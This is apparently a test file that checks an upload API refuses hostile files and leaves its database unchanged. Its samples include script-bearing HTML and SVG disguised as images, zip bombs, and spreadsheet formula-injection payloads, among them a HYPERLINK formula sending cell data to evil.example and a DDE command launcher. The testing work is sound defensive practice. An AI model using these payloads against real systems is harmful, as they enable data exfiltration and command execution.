// A corpus of hostile files sent to every upload of the API (grep readUpload): the ledger import
// (dry run and commit), a report's site photos, a roadblock's attachments and the war map's county
// borders. Not a spreadsheet, an old .xls, a PDF, a truncated zip, three zip bombs, a sheet of a
// million rows (generated as a stream), the wrong sheet, formulas without values, images that are
// not images (named so, or an image's signature followed by something else), an empty file, a request that is not multipart, NUL in the file name and fields,
// GeoJSON that nests too deep or hides a NUL; and 200 MB streamed over a real socket. Each is
// refused with a 4xx in the error shape and in Chinese, and no table of the database changes.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, signIn, type Client, type Session, type TestApp } from '../helpers/app.ts';
import { REGIONS } from '../helpers/factories.ts';
import { buildLedger, buildXlsx, goodRow, zipBombDeclaredHuge, zipBombLying, zipBombRatio } from '../helpers/xlsx.ts';
import { buildFixture, formData, JPEG, PDF, type Fixture } from './fixture.ts';
import { ledgerWithRows, streamedUpload } from './hostile.ts';

const CJK = /[\u4e00-\u9fff]/;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

let t: TestApp;
let f: Fixture;
let admin: Client;

beforeAll(async () => {
  t = await buildTestApp();
  f = await buildFixture(t);
  admin = f.admin;
}, 120_000);
afterAll(() => t.close());

/** Row counts of every table: a refused upload changes none of them. */
async function counts(): Promise<Record<string, number>> {
  const { rows: tables } = await t.database.pool.query<{ name: string }>(
    `select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' order by 1`,
  );
  const { rows } = await t.database.pool.query(`select ${tables.map((x) => `(select count(*)::int from "${x.name}") as "${x.name}"`).join(', ')}`);
  return rows[0] as Record<string, number>;
}

interface Upload {
  name: string;
  method: 'POST' | 'PUT';
  url: () => string;
  /** A dry run answers 200 with the problems of the rows it would refuse. */
  dryRun?: boolean;
  /** A file this upload takes, for the hostile cases that are all in the name or the fields. */
  good: () => Buffer | Promise<Buffer>;
}
const ATTACHMENT = 'roadblock attachment';
const UPLOADS: Upload[] = [
  { name: 'ledger import, dry run', method: 'POST', url: () => '/api/v1/ledger/import?dryRun=true', dryRun: true, good: () => buildLedger([goodRow('G-1')]) },
  { name: 'ledger import, commit', method: 'POST', url: () => '/api/v1/ledger/import?dryRun=false', good: () => buildLedger([goodRow('G-1')]) },
  // A project with no report in July yet: an accepted photo would also open its draft.
  { name: 'report photo', method: 'POST', url: () => `/api/v1/reports/${f.ids.otherProject}/${f.ids.july}/photos`, good: () => JPEG },
  { name: ATTACHMENT, method: 'POST', url: () => `/api/v1/problems/${f.ids.problem}/attachments`, good: () => PDF },
  { name: 'county borders', method: 'PUT', url: () => `/api/v1/map/boundaries/${REGIONS.city.code}`, good: () => json(borders({ adcode: REGIONS.dongchangfu.code })) },
];

interface Hostile {
  what: string;
  /** 'good': the upload's own good file, the harm being in the name or the fields. */
  file: (() => Buffer | Promise<Buffer>) | 'good';
  fileName: string;
  contentType?: string;
  fields?: Record<string, string>;
  /** Uploads this file is not hostile to (it is what they take); every other refuses it. */
  skip?: string[];
}

const TEXT = Buffer.from('项目编码,项目名称,所属区域\nA-1,某项目,东昌府区\n');
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]);
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(120)]);
let million: Promise<Buffer> | null = null;

const CORPUS: Hostile[] = [
  { what: 'a text file named .xlsx', file: () => TEXT, fileName: '台账.xlsx', contentType: XLSX },
  { what: 'an old .xls (OLE) file', file: () => OLE, fileName: '台账.xls', contentType: 'application/vnd.ms-excel', skip: [ATTACHMENT] },
  { what: 'a PDF named .xlsx', file: () => PDF, fileName: '台账.xlsx', contentType: XLSX, skip: [ATTACHMENT] },
  { what: 'a truncated workbook', file: async () => (await buildLedger([goodRow('H-1')])).subarray(0, 2000), fileName: '台账.xlsx', contentType: XLSX },
  { what: 'a zip bomb declaring a 4 GB sheet', file: zipBombDeclaredHuge, fileName: '台账.xlsx', contentType: XLSX },
  { what: 'a zip bomb compressed 1000:1', file: zipBombRatio, fileName: '台账.xlsx', contentType: XLSX },
  { what: 'a zip bomb whose headers lie about the size', file: zipBombLying, fileName: '台账.xlsx', contentType: XLSX },
  // A real workbook of 16 MB: a fine attachment, too many rows for an import.
  { what: 'a sheet of a million rows', file: () => (million ??= ledgerWithRows(1_000_000)), fileName: '台账.xlsx', contentType: XLSX, skip: [ATTACHMENT] },
  {
    what: 'the wrong sheet (instructions, no ledger header)',
    file: () => buildXlsx([{ name: '填写说明', rows: [['填写说明'], ['1. 金额单位为万元'], ['2. 日期格式为 2024-09-01']] }]),
    fileName: '台账.xlsx', contentType: XLSX, skip: [ATTACHMENT],
  },
  {
    what: 'formulas without values in the required cells',
    file: () => buildLedger([goodRow('H-2', {
      name: { formula: 'HYPERLINK("http://evil.example/?"&A2,"点击查看")' }, totalInvestment: { formula: 'cmd|\' /C calc\'!A0' }, region: { formula: 'A1&A1' },
    })]),
    fileName: '台账.xlsx', contentType: XLSX, skip: [ATTACHMENT],
  },
  { what: 'an HTML page named .jpg', file: () => HTML, fileName: '现场.jpg', contentType: 'image/jpeg' },
  { what: 'an SVG with scripts named .png', file: () => SVG, fileName: '现场.png', contentType: 'image/png' },
  { what: 'a Windows program named .jpg', file: () => EXE, fileName: '现场.jpg', contentType: 'image/jpeg' },
  { what: 'a JPEG signature followed by a web page', file: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML]), fileName: '现场.jpg', contentType: 'image/jpeg' },
  { what: 'a PNG signature followed by zeros', file: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(64)]), fileName: '现场.png', contentType: 'image/png' },
  { what: 'an empty file', file: () => Buffer.alloc(0), fileName: '空.xlsx', contentType: XLSX },
  { what: 'a good file whose name holds NUL', file: 'good', fileName: 'a\u0000.xlsx', contentType: XLSX },
  { what: 'a good file with text fields holding NUL', file: 'good', fileName: '台账.xlsx', contentType: XLSX, fields: { caption: '说明\u0000', source: '来源\u0000', mapping: '{"a\u0000":"code"}' } },
];

/** Borders that are valid JSON and look like GeoJSON, but are not what the map takes. */
const feature = (properties: Record<string, unknown>, coordinates: unknown) => ({ type: 'Feature', properties, geometry: { type: 'Polygon', coordinates } });
const SQUARE = [[[115.9, 36.4], [116.0, 36.4], [116.0, 36.5], [115.9, 36.4]]];
const borders = (properties: Record<string, unknown>) => ({ type: 'FeatureCollection', features: [feature(properties, SQUARE)] });
const GEOJSON: Hostile[] = [
  { what: 'GeoJSON whose property names a county with a NUL', file: () => json(borders({ adcode: REGIONS.dongchangfu.code, name: '东昌府区\u0000' })), fileName: 'b.geojson' },
  { what: 'GeoJSON with coordinates of 1e308', file: () => json({ type: 'FeatureCollection', features: [feature({ adcode: REGIONS.dongchangfu.code }, [[[1e308, 36.4], [116, 1e308], [116, 36.5], [1e308, 36.4]]])] }), fileName: 'b.geojson' },
  { what: 'GeoJSON nested 100,000 deep', file: () => Buffer.from(`{"type":"FeatureCollection","features":[${'['.repeat(100_000)}${']'.repeat(100_000)}]}`), fileName: 'b.geojson' },
  { what: 'a GeoJSON Feature instead of a collection', file: () => json(feature({ adcode: REGIONS.dongchangfu.code }, SQUARE)), fileName: 'b.geojson' },
];
const json = (v: unknown) => Buffer.from(JSON.stringify(v));

function expectRefused(res: LightMyRequestResponse | { statusCode: number; body: string }, label: string): void {
  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, `${label}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  const { error } = JSON.parse(res.body);
  expect(error, label).toMatchObject({ code: expect.any(String), message: expect.stringMatching(CJK) });
  for (const d of error.details ?? []) expect(d.message, label).toMatch(CJK);
}

describe('hostile files change nothing', () => {
  for (const up of UPLOADS) {
    it(`${up.name}: every file of the corpus is refused in Chinese`, async () => {
      const before = await counts();
      const corpus = [...CORPUS, ...GEOJSON].filter((h) => !h.skip?.includes(up.name));
      for (const h of corpus) {
        const file = h.file === 'good' ? await up.good() : await h.file();
        const res = await admin.request({ method: up.method, url: up.url(), ...formData(file, h) });
        if (up.dryRun && res.statusCode === 200) {
          const preview = res.json();
          expect(preview.problems.length, `${up.name} ← ${h.what}`).toBeGreaterThan(0);
          for (const p of preview.problems) expect(p.message).toMatch(CJK);
        } else expectRefused(res, `${up.name} ← ${h.what}`);
      }
      expect(await counts()).toEqual(before);
    }, 120_000);

    it(`${up.name}: a request that is not multipart is refused`, async () => {
      const before = await counts();
      for (const [type, payload] of [['application/octet-stream', TEXT], ['text/plain', TEXT], ['application/json', '{"file":"x"}']] as const) {
        const res = await admin.request({ method: up.method, url: up.url(), payload, headers: { 'content-type': type } });
        // The borders also take a FeatureCollection as a JSON body: {"file": …} is not one.
        expectRefused(res, `${up.name} ← ${type}`);
      }
      expect(await counts()).toEqual(before);
    });
  }
});

describe('200 MB over a real socket', () => {
  /** Sends `size` bytes as a multipart upload, generated as it is written; stops writing once answered. */
  function send(port: number, session: Session, up: Upload, size: number): Promise<{ statusCode: number; body: string; sent: number }> {
    const { payload, headers } = streamedUpload(size, Buffer.from('PK\u0003\u0004'), '大文件.xlsx');
    return new Promise((resolve, reject) => {
      let sent = 0;
      const req = http.request({ port, host: '127.0.0.1', method: up.method, path: up.url(), headers: { ...headers, cookie: `tuijin_session=${session.cookie}`, 'x-csrf-token': session.csrf } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          payload.destroy();
          resolve({ statusCode: res.statusCode ?? 0, body: Buffer.concat(chunks).toString(), sent });
        });
      });
      // The server may close the socket once it has answered: that is not the test's failure.
      req.on('error', (err: NodeJS.ErrnoException) => (['EPIPE', 'ECONNRESET'].includes(err.code ?? '') ? undefined : reject(err)));
      payload.on('data', (c: Buffer) => { sent += c.length; });
      (payload as Readable).pipe(req);
    });
  }

  it('is answered 413 for every upload, without the server holding the file', async () => {
    const port = await new Promise<number>((resolve) => {
      const server = t.app.server;
      if (server.listening) resolve((server.address() as AddressInfo).port);
      else void t.app.listen({ port: 0, host: '127.0.0.1' }).then(() => resolve((server.address() as AddressInfo).port));
    });
    const session = await signIn(t.app, 'robust-admin');
    const before = await counts();
    for (const up of UPLOADS) {
      global.gc?.();
      const rss = process.memoryUsage().rss;
      let peak = 0;
      const timer = setInterval(() => { peak = Math.max(peak, process.memoryUsage().rss - rss); }, 10);
      const started = performance.now();
      const res = await send(port, session, up, 200 * 1024 * 1024);
      clearInterval(timer);
      console.log(`${up.name}: 200 MB upload answered ${res.statusCode} after ${(res.sent / 1024 / 1024).toFixed(0)} MB sent, in ${(performance.now() - started).toFixed(0)} ms; peak RSS +${(peak / 1024 / 1024).toFixed(0)} MB`);
      expect(res.statusCode, res.body).toBe(413);
      expectRefused(res, up.name);
      // The upload limit is 20 MB: what the server holds stays near that, far from 200 MB.
      expect(peak).toBeLessThan(120 * 1024 * 1024);
    }
    expect(await counts()).toEqual(before);
  }, 120_000);
});

describe('the good files', () => {
  it('are taken by each upload, so the refusals above are the hostile files’ doing', async () => {
    for (const up of UPLOADS) {
      const res = await admin.request({ method: up.method, url: up.url(), ...formData(await up.good(), { fileName: 'good' }) });
      expect(res.statusCode, `${up.name}: ${res.body.slice(0, 300)}`).toBeLessThan(300);
      if (up.dryRun) expect(res.json().problems).toEqual([]);
    }
  });
});
